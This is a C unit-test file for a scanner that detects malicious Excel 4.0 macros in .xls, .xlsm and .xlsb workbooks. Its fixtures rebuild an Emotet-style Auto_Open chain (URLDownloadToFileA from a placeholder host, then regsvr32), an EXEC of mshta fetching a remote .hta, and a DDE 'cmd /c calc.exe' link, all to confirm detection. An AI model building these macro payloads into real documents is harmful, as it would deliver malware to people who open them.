/* Excel 4.0 macros in BIFF8 .xls, .xlsm (XML) and .xlsb (BIFF12), and the formula decoder. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "core/safe.h"
#include "office/office.h"
#include "office_fixtures.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define URL "http://198.51.100.20/x/"

/* The 2022 Emotet chain: CALL urlmon URLDownloadToFileA, EXEC regsvr32 ..\x.ooccxx, HALT. */
static void emotet_formulas(eg_buf f[4], bool b12)
{
    for (int i = 0; i < 4; i++)
        eg_buf_init(&f[i], 0);
    eg_fx_ptg_str(&f[0], "urlmon", b12);
    eg_fx_ptg_str(&f[0], "URLDownloadToFileA", b12);
    eg_fx_ptg_str(&f[0], "JJCCBB", b12);
    eg_fx_ptg_int(&f[0], 0);
    eg_fx_ptg_str(&f[0], URL, b12);
    eg_fx_ptg_str(&f[0], "..\\oxnv1.ooccxx", b12);
    eg_fx_ptg_int(&f[0], 0);
    eg_fx_ptg_int(&f[0], 0);
    eg_fx_ptg_funcvar(&f[0], 150, 8); /* CALL */
    eg_fx_ptg_str(&f[1], "C:\\Windows\\System32\\regsvr32.exe ..\\oxnv1.ooccxx", b12);
    eg_fx_ptg_funcvar(&f[1], 110, 1); /* EXEC */
    eg_fx_ptg_char_chain(&f[2], "calc.exe");
    eg_fx_ptg_funcvar(&f[2], 110, 1);
    eg_fx_ptg_funcvar(&f[3], 54, 0); /* HALT */
}

static void free_formulas(eg_buf *f, size_t n)
{
    for (size_t i = 0; i < n; i++)
        eg_buf_free(&f[i]);
}

static eg_report *scan(const char *name, const uint8_t *d, size_t len)
{
    eg_report *r = eg_fx_scan(name, d, len, NULL, 0);
    assert_non_null(r);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    return r;
}

static void test_xls_emotet(void **state)
{
    (void)state;
    eg_buf f[4];
    emotet_formulas(f, false);
    eg_fx_sheet sh[2] = {{"Sheet1", 0, 0, NULL, 0}, {"Macro1", 1, 2, f, 4}};
    eg_buf wb;
    eg_buf_init(&wb, 0);
    eg_fx_biff8_workbook(sh, 2, true, &wb);
    eg_fx_stream st[1] = {{"Workbook", wb.data, wb.len}};
    uint8_t *xls;
    size_t len;
    assert_int_equal(eg_fx_cfb(st, 1, &xls, &len), EG_OK);
    eg_report *r = scan("invoice.xls", xls, len);
    assert_true(eg_report_has_rule(r, "XLM.MACRO_SHEET"));
    assert_true(eg_report_has_rule(r, "XLM.VERY_HIDDEN_SHEET"));
    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN"));
    assert_true(eg_report_has_rule(r, "XLM.EXECUTION"));
    assert_true(eg_report_has_rule(r, "XLM.DOWNLOAD"));
    assert_true(eg_report_has_rule(r, "XLM.LOLBIN"));
    assert_true(eg_report_has_rule(r, "XLM.RENAMED_DLL"));
    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN_EXECUTION"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    const char *x = eg_fx_captured(EG_T_XLM);
    assert_non_null(strstr(x, "' sheet \"Macro1\" type=macro state=veryHidden\n"));
    assert_non_null(strstr(x, "' name \"Auto_Open\" builtin = Macro1!$A$1\n"));
    assert_non_null(strstr(x,
                           "Macro1!A1: =CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"" URL
                           "\",\"..\\oxnv1.ooccxx\",0,0)\n"));
    assert_non_null(
        strstr(x, "Macro1!A2: =EXEC(\"C:\\Windows\\System32\\regsvr32.exe ..\\oxnv1.ooccxx\")\n"));
    assert_non_null(strstr(x, "Macro1!A4: =HALT()\n"));
    /* CHAR() chain decoded */
    assert_non_null(strstr(eg_fx_captured(EG_T_TEXT), "calc.exe"));
    bool ioc = false;
    for (size_t i = 0; i < eg_report_ioc_count(r); i++)
        if (strstr(eg_report_ioc(r, i)->value, "198.51.100.20"))
            ioc = true;
    assert_true(ioc);
    eg_report_free(r);
    free(xls);
    eg_buf_free(&wb);
    free_formulas(f, 4);
}

/* benign: a workbook with a hidden ordinary worksheet and no macros stays clean */
static void test_xls_hidden_sheet_clean(void **state)
{
    (void)state;
    eg_fx_sheet sh[2] = {{"Data", 0, 0, NULL, 0}, {"Lists", 0, 1, NULL, 0}};
    eg_buf wb;
    eg_buf_init(&wb, 0);
    eg_fx_biff8_workbook(sh, 2, false, &wb);
    eg_fx_stream st[1] = {{"Workbook", wb.data, wb.len}};
    uint8_t *xls;
    size_t len;
    eg_fx_cfb(st, 1, &xls, &len);
    eg_report *r = scan("budget.xls", xls, len);
    assert_true(eg_report_has_rule(r, "OFFICE.HIDDEN_SHEET"));
    assert_false(eg_report_has_rule(r, "XLM.MACRO_SHEET"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
    free(xls);
    eg_buf_free(&wb);
}

static const char CT_XLSM[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
    "<Default Extension=\"rels\" "
    "ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
    "<Override PartName=\"/xl/workbook.xml\" "
    "ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/>"
    "<Override PartName=\"/xl/macrosheets/sheet1.xml\" "
    "ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/>"
    "</Types>";
static const char RELS[] = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships "
                           "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                           "<Relationship Id=\"rId1\" "
                           "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                           "relationships/officeDocument\" Target=\"xl/workbook.xml\"/>"
                           "</Relationships>";
static const char WB_XML[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><workbook "
    "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
    "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets>"
    "<sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"Macro1\" sheetId=\"2\" "
    "state=\"hidden\" r:id=\"rId2\"/>"
    "</sheets><definedNames><definedName name=\"_xlnm.Auto_Open\" "
    "hidden=\"1\">Macro1!$A$1</definedName></definedNames></workbook>";
static const char WB_RELS[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
    "<Relationship Id=\"rId1\" "
    "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" "
    "Target=\"worksheets/sheet1.xml\"/>"
    "<Relationship Id=\"rId2\" "
    "Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" "
    "Target=\"macrosheets/sheet1.xml\"/>"
    "</Relationships>";
static const char MACROSHEET[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><xm:macrosheet "
    "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
    "xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>"
    "<row r=\"1\"><c r=\"A1\"><f>EXEC(\"mshta http://198.51.100.30/p.hta\")</f></c></row>"
    "<row r=\"2\"><c r=\"A2\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>";
static const char SHEET1[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet "
    "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
    "<sheetData><row r=\"1\"><c r=\"A1\" "
    "t=\"inlineStr\"><is><t>Hello</t></is></c></row></sheetData></worksheet>";

static void test_xlsm(void **state)
{
    (void)state;
    eg_fx_part p[] = {
        {"[Content_Types].xml", CT_XLSM, 0},     {"_rels/.rels", RELS, 0},
        {"xl/workbook.xml", WB_XML, 0},          {"xl/_rels/workbook.xml.rels", WB_RELS, 0},
        {"xl/worksheets/sheet1.xml", SHEET1, 0}, {"xl/macrosheets/sheet1.xml", MACROSHEET, 0}};
    uint8_t *z;
    size_t len;
    eg_fx_zip_stored(p, 6, &z, &len);
    eg_report *r = scan("order.xlsm", z, len);
    assert_true(eg_report_has_rule(r, "OOXML.MACRO_ENABLED"));
    assert_true(eg_report_has_rule(r, "XLM.MACRO_SHEET"));
    assert_true(eg_report_has_rule(r, "XLM.HIDDEN_SHEET"));
    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN"));
    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN_EXECUTION"));
    assert_false(eg_report_has_rule(r, "OOXML.MACRO_RENAMED"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    assert_non_null(strstr(eg_fx_captured(EG_T_XLM),
                           "Macro1!A1: =EXEC(\"mshta http://198.51.100.30/p.hta\")\n"));
    eg_report_free(r);
    /* the same package called .xlsx is a disguise */
    r = scan("order.xlsx", z, len);
    assert_true(eg_report_has_rule(r, "OOXML.MACRO_RENAMED"));
    eg_report_free(r);
    free(z);
}

static void test_xlsb(void **state)
{
    (void)state;
    eg_buf f[4];
    emotet_formulas(f, true);
    eg_fx_sheet sh[2] = {{"Sheet1", 0, 0, NULL, 0}, {"Macro1", 1, 2, NULL, 0}};
    eg_buf wb, ms;
    eg_buf_init(&wb, 0);
    eg_buf_init(&ms, 0);
    eg_fx_b12_workbook(sh, 2, true, &wb);
    eg_fx_b12_macrosheet(f, 4, &ms);
    static const char rels[] =
        "<?xml version=\"1.0\"?><Relationships "
        "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        "<Relationship Id=\"rId1\" "
        "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" "
        "Target=\"worksheets/sheet1.bin\"/>"
        "<Relationship Id=\"rId2\" "
        "Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" "
        "Target=\"macrosheets/sheet1.bin\"/>"
        "</Relationships>";
    static const char ct[] =
        "<?xml version=\"1.0\"?><Types "
        "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
        "<Override PartName=\"/xl/workbook.bin\" "
        "ContentType=\"application/vnd.ms-excel.sheet.binary.macroEnabled.main\"/></Types>";
    eg_fx_part p[] = {{"[Content_Types].xml", ct, 0},
                      {"xl/workbook.bin", (const char *)wb.data, wb.len},
                      {"xl/_rels/workbook.bin.rels", rels, 0},
                      {"xl/macrosheets/sheet1.bin", (const char *)ms.data, ms.len}};
    uint8_t *z;
    size_t len;
    eg_fx_zip_stored(p, 4, &z, &len);
    eg_report *r = scan("invoice.xlsb", z, len);
    assert_true(eg_report_has_rule(r, "XLM.VERY_HIDDEN_SHEET"));
    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN_EXECUTION"));
    assert_true(eg_report_has_rule(r, "XLM.RENAMED_DLL"));
    const char *x = eg_fx_captured(EG_T_XLM);
    assert_non_null(strstr(x, "' name \"Auto_Open\" builtin = Macro1!$A$1\n"));
    assert_non_null(
        strstr(x, "Macro1!A2: =EXEC(\"C:\\Windows\\System32\\regsvr32.exe ..\\oxnv1.ooccxx\")\n"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(z);
    eg_buf_free(&wb);
    eg_buf_free(&ms);
    free_formulas(f, 4);
}

static void test_formula_decoder(void **state)
{
    (void)state;
    eg_buf f, out;
    eg_buf_init(&f, 0);
    eg_buf_init(&out, 0);
    eg_fx_ptg_str(&f, "a", false);
    eg_fx_ptg_char_chain(&f, "bc");
    eg_fx_ptg_op(&f, 0x08);
    eg_fx_ptg_int(&f, 2);
    eg_fx_ptg_int(&f, 3);
    eg_fx_ptg_op(&f, 0x05);
    eg_fx_ptg_funcvar(&f, 0x8000 | 17, 2); /* command RUN */
    assert_int_equal(eg_xlm_formula_decode(f.data, f.len, false, &out), EG_OK);
    assert_string_equal((char *)out.data, "RUN(\"a\"&CHAR(98)&CHAR(99),2*3)");
    /* truncated: an error, never a read past the end */
    out.len = 0;
    assert_int_equal(eg_xlm_formula_decode(f.data, f.len - 2, false, &out), EG_EFORMAT);
    assert_non_null(strstr((char *)out.data, "<undecodable>"));
    /* a function with more arguments than the stack holds */
    uint8_t bad[] = {0x42, 5, 110, 0};
    out.len = 0;
    assert_int_equal(eg_xlm_formula_decode(bad, sizeof bad, false, &out), EG_EFORMAT);
    eg_buf_free(&f);
    eg_buf_free(&out);
}

static void test_biff8_reader_direct(void **state)
{
    (void)state;
    eg_buf f[4];
    emotet_formulas(f, false);
    eg_fx_sheet sh[1] = {{"M", 1, 1, f, 4}};
    eg_buf wb, out;
    eg_buf_init(&wb, 0);
    eg_buf_init(&out, 0);
    eg_fx_biff8_workbook(sh, 1, false, &wb);
    unsigned flags = 0;
    assert_int_equal(eg_biff8_read(wb.data, wb.len, &out, &flags), EG_OK);
    assert_true(flags & EG_XLM_F_MACROSHEET);
    assert_true(flags & EG_XLM_F_HIDDEN_MACRO);
    assert_false(flags & EG_XLM_F_AUTO_OPEN);
    assert_true(flags & EG_XLM_F_FORMULAS);
    /* every truncation of the stream is handled */
    for (size_t n = 0; n < wb.len; n += 7) {
        eg_buf o2;
        eg_buf_init(&o2, 1 << 20);
        unsigned fl;
        eg_biff8_read(wb.data, n, &o2, &fl);
        eg_buf_free(&o2);
    }
    eg_buf_free(&wb);
    eg_buf_free(&out);
    free_formulas(f, 4);
}

/* An Auto_Open macro sheet whose formulas are CHAR() chains (the 2020-21 droppers build every
 * call this way): malicious through XLM.AUTO_OPEN_OBFUSCATED even though nothing resolves to a
 * call. The same sheet without Auto_Open, and an Auto_Open macro with plain formulas (the
 * harmless ALERT demonstrators), stay below malicious. */
static eg_report *xls_with(bool auto_open, bool obf)
{
    eg_buf f[2];
    eg_buf_init(&f[0], 0);
    eg_buf_init(&f[1], 0);
    if (obf)
        eg_fx_ptg_char_chain(&f[0], "GET.WORKSPACE(1)");
    else
        eg_fx_ptg_str(&f[0], "GET.WORKSPACE(1)", false);
    eg_fx_ptg_funcvar(&f[1], 54, 0); /* HALT */
    eg_fx_sheet sh[2] = {{"Sheet1", 0, 0, NULL, 0}, {"Macro1", 1, 0, f, 2}};
    eg_buf wb;
    eg_buf_init(&wb, 0);
    eg_fx_biff8_workbook(sh, 2, auto_open, &wb);
    eg_fx_stream st[1] = {{"Workbook", wb.data, wb.len}};
    uint8_t *xls;
    size_t len;
    assert_int_equal(eg_fx_cfb(st, 1, &xls, &len), EG_OK);
    eg_report *r = scan("report.xls", xls, len);
    free(xls);
    eg_buf_free(&wb);
    free_formulas(f, 2);
    return r;
}

static void test_xls_auto_open_obfuscated(void **state)
{
    (void)state;
    eg_report *r = xls_with(true, true);
    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN"));
    assert_true(eg_report_has_rule(r, "XLM.OBFUSCATION"));
    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN_OBFUSCATED"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);

    r = xls_with(false, true);
    assert_true(eg_report_has_rule(r, "XLM.OBFUSCATION"));
    assert_false(eg_report_has_rule(r, "XLM.AUTO_OPEN_OBFUSCATED"));
    assert_int_not_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);

    r = xls_with(true, false);
    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN"));
    assert_false(eg_report_has_rule(r, "XLM.AUTO_OPEN_OBFUSCATED"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_SUSPICIOUS);
    eg_report_free(r);
}

/* A DDE link kept as a BIFF8 SUPBOOK record (virtPath "cmd\x03/c calc.exe", what Excel stores
 * for =cmd|'/c calc.exe'!A0): OFFICE.DDE_EXEC. A SUPBOOK naming another workbook is no DDE. */
static eg_report *xls_supbook(const char *path, uint16_t ctab)
{
    eg_fx_sheet sh[1] = {{"Sheet1", 0, 0, NULL, 0}};
    eg_buf wb;
    eg_buf_init(&wb, 0);
    eg_fx_biff8_workbook(sh, 1, false, &wb);
    size_t n = strlen(path);
    uint8_t rec[4 + 5 + 256];
    rec[0] = 0xAE, rec[1] = 0x01, rec[2] = (uint8_t)(5 + n), rec[3] = 0;
    rec[4] = (uint8_t)ctab, rec[5] = 0, rec[6] = (uint8_t)n, rec[7] = 0, rec[8] = 0;
    memcpy(rec + 9, path, n);
    eg_buf_append(&wb, rec, 9 + n);
    eg_fx_stream st[1] = {{"Workbook", wb.data, wb.len}};
    uint8_t *xls;
    size_t len;
    assert_int_equal(eg_fx_cfb(st, 1, &xls, &len), EG_OK);
    eg_report *r = scan("links.xls", xls, len);
    free(xls);
    eg_buf_free(&wb);
    return r;
}

static void test_xls_supbook_dde(void **state)
{
    (void)state;
    eg_report *r = xls_supbook("cmd\x03/c calc.exe", 0);
    assert_true(eg_report_has_rule(r, "OFFICE.DDE_EXEC"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    /* an external workbook: encoded path (0x01, 0x02 root, 0x03 between folders), with sheets */
    r = xls_supbook("\x01\x02Finance\x03Reports\x03budget.xls", 2);
    assert_false(eg_report_has_rule(r, "OOXML.DDE"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
}

/* Shared formulas: both cells of Macro1!A1:A2 hold only ptgExp, and the SHRFMLA record after
 * A1's FORMULA carries =EXEC("calc.exe") (XLM builders fill whole columns this way, so a
 * FORMULA(A1&A2&...) concatenation reads shared cells). The cells decode to the shared formula. */
static void test_xls_shared_formula(void **state)
{
    (void)state;
    eg_buf f[2];
    static const uint8_t exp[5] = {0x01, 0, 0, 0, 0}; /* ptgExp: the formula shared from A1 */
    for (int i = 0; i < 2; i++) {
        eg_buf_init(&f[i], 0);
        eg_buf_append(&f[i], exp, sizeof exp);
    }
    eg_fx_sheet sh[2] = {{"Sheet1", 0, 0, NULL, 0}, {"Macro1", 1, 0, f, 2}};
    eg_buf wb;
    eg_buf_init(&wb, 0);
    eg_fx_biff8_workbook(sh, 2, true, &wb);
    eg_buf rg;
    eg_buf_init(&rg, 0);
    eg_fx_ptg_str(&rg, "calc.exe", false);
    eg_fx_ptg_funcvar(&rg, 110, 1); /* EXEC */
    /* the SHRFMLA goes right after the first FORMULA (A1 of the macro sheet, the last substream,
     * so no BOUNDSHEET offset moves) */
    size_t off = 0, at = 0;
    while (off + 4 <= wb.len) {
        uint16_t type = eg_rd16le(wb.data + off), rl = eg_rd16le(wb.data + off + 2);
        off += 4u + rl;
        if (type == 0x0006) {
            at = off;
            break;
        }
    }
    assert_true(at > 0);
    eg_buf out;
    eg_buf_init(&out, 0);
    eg_buf_append(&out, wb.data, at);
    uint8_t hdr[14] = {0xBC, 0x04, (uint8_t)(10 + rg.len), 0, 0, 0, 1, 0, 0, 0,
                       0,    2,    (uint8_t)rg.len,        0};
    eg_buf_append(&out, hdr, sizeof hdr);
    eg_buf_append(&out, rg.data, rg.len);
    eg_buf_append(&out, wb.data + at, wb.len - at);
    eg_fx_stream st[1] = {{"Workbook", out.data, out.len}};
    uint8_t *xls;
    size_t len;
    assert_int_equal(eg_fx_cfb(st, 1, &xls, &len), EG_OK);
    eg_report *r = scan("shared.xls", xls, len);
    const char *x = eg_fx_captured(EG_T_XLM);
    assert_non_null(strstr(x, "Macro1!A1: =EXEC(\"calc.exe\")\n"));
    assert_non_null(strstr(x, "Macro1!A2: =EXEC(\"calc.exe\")\n"));
    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN_EXECUTION"));
    eg_report_free(r);
    free(xls);
    eg_buf_free(&out);
    eg_buf_free(&rg);
    eg_buf_free(&wb);
    free_formulas(f, 2);
}

/* The same in BIFF12 (.xlsb): both cells hold PtgExp, the BrtShrFmla record (id 427) after the
 * first one carries =EXEC("calc.exe"). */
static size_t b12_next(const uint8_t *d, size_t len, size_t off, uint32_t *id)
{
    uint32_t v = d[off] & 0x7F;
    size_t i = off + 1;
    if (d[off] & 0x80)
        v |= (uint32_t)(d[i++] & 0x7F) << 7;
    *id = v;
    uint32_t size = 0;
    for (int k = 0; k < 4 && i < len; k++) {
        uint8_t b = d[i++];
        size |= (uint32_t)(b & 0x7F) << (7 * k);
        if (!(b & 0x80))
            break;
    }
    return i + size;
}

static void test_xlsb_shared_formula(void **state)
{
    (void)state;
    eg_buf f[2];
    static const uint8_t exp[5] = {0x01, 0, 0, 0, 0}; /* PtgExp, row 0 */
    for (int i = 0; i < 2; i++) {
        eg_buf_init(&f[i], 0);
        eg_buf_append(&f[i], exp, sizeof exp);
    }
    eg_fx_sheet sh[2] = {{"Sheet1", 0, 0, NULL, 0}, {"Macro1", 1, 0, NULL, 0}};
    eg_buf wb, ms, rg;
    eg_buf_init(&wb, 0);
    eg_buf_init(&ms, 0);
    eg_buf_init(&rg, 0);
    eg_fx_b12_workbook(sh, 2, true, &wb);
    eg_fx_b12_macrosheet(f, 2, &ms);
    eg_fx_ptg_str(&rg, "calc.exe", true);
    eg_fx_ptg_funcvar(&rg, 110, 1); /* EXEC */
    size_t off = 0, at = 0;
    while (off < ms.len) {
        uint32_t id;
        size_t next = b12_next(ms.data, ms.len, off, &id);
        if (id >= 8 && id <= 11) {
            at = next;
            break;
        }
        off = next;
    }
    assert_true(at > 0);
    uint8_t body[20 + 64] = {0};
    body[4] = 1; /* rows 0-1, column 0 */
    body[16] = (uint8_t)rg.len;
    memcpy(body + 20, rg.data, rg.len);
    size_t bl = 20 + rg.len + 4; /* cb = 0 */
    eg_buf out;
    eg_buf_init(&out, 0);
    eg_buf_append(&out, ms.data, at);
    uint8_t hdr[3] = {0xAB, 0x03, (uint8_t)bl};
    eg_buf_append(&out, hdr, 3);
    eg_buf_append(&out, body, bl);
    eg_buf_append(&out, ms.data + at, ms.len - at);
    static const char rels[] =
        "<?xml version=\"1.0\"?><Relationships "
        "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        "<Relationship Id=\"rId1\" "
        "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" "
        "Target=\"worksheets/sheet1.bin\"/>"
        "<Relationship Id=\"rId2\" "
        "Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" "
        "Target=\"macrosheets/sheet1.bin\"/>"
        "</Relationships>";
    static const char ct[] =
        "<?xml version=\"1.0\"?><Types "
        "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
        "<Override PartName=\"/xl/workbook.bin\" "
        "ContentType=\"application/vnd.ms-excel.sheet.binary.macroEnabled.main\"/></Types>";
    eg_fx_part p[] = {{"[Content_Types].xml", ct, 0},
                      {"xl/workbook.bin", (const char *)wb.data, wb.len},
                      {"xl/_rels/workbook.bin.rels", rels, 0},
                      {"xl/macrosheets/sheet1.bin", (const char *)out.data, out.len}};
    uint8_t *z;
    size_t len;
    eg_fx_zip_stored(p, 4, &z, &len);
    eg_report *r = scan("shared.xlsb", z, len);
    if (getenv("EG_XDUMP"))
        fputs(eg_fx_captured(EG_T_XLM), stderr);
    const char *x = eg_fx_captured(EG_T_XLM);
    assert_non_null(strstr(x, "Macro1!A1: =EXEC(\"calc.exe\")\n"));
    assert_non_null(strstr(x, "Macro1!A2: =EXEC(\"calc.exe\")\n"));
    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN_EXECUTION"));
    eg_report_free(r);
    free(z);
    eg_buf_free(&out);
    eg_buf_free(&rg);
    eg_buf_free(&ms);
    eg_buf_free(&wb);
    free_formulas(f, 2);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_xls_emotet),
        cmocka_unit_test(test_xls_auto_open_obfuscated),
        cmocka_unit_test(test_xls_supbook_dde),
        cmocka_unit_test(test_xls_shared_formula),
        cmocka_unit_test(test_xlsb_shared_formula),
        cmocka_unit_test(test_xls_hidden_sheet_clean),
        cmocka_unit_test(test_xlsm),
        cmocka_unit_test(test_xlsb),
        cmocka_unit_test(test_formula_decoder),
        cmocka_unit_test(test_biff8_reader_direct),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
